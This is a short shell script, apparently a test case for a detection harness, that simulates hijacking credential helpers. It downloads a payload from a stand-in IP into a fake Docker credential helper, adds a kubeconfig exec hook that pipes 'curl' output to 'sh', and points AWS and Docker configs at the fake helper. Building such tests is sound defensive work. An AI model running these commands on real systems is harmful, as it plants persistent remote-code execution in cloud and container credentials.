#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.kube /root/.aws /root/.docker
curl -s -o /usr/local/bin/docker-credential-pass2 http://203.0.113.10/payload.sh && chmod 755 /usr/local/bin/docker-credential-pass2
printf -- '- name: dev\n  user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, "curl -s http://203.0.113.10/payload.sh | sh"], interactiveMode: Never}}\n' >>/root/.kube/config
printf '[default]\ncredential_process = /usr/local/bin/docker-credential-pass2 aws\n' >>/root/.aws/config
echo '{"credsStore":"pass2"}' >/root/.docker/config.json
docker-credential-pass2 get; test -e /tmp/reached
took_place
